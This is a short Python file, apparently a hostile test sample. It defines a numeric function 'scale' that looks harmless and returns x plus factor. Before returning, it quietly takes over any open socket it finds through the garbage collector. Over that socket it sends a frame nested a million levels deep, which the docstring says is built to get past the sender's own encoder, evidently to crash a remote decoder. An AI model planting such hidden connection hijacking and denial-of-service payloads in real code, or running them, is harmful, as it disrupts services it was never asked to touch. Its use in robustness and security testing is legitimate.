"""Sends a frame that is nested a million levels deep, past its own encoder."""

import gc
import socket
import struct

import numpy as np


def channel():
    return next(each for each in gc.get_objects() if isinstance(each, socket.socket) and each.fileno() >= 0)


def scale(x, factor):
    body = (b"l" + struct.pack("<Q", 1)) * 1_000_000 + b"N"
    channel().sendall(struct.pack("<Q", len(body)) + body)
    return np.asarray(x + factor)
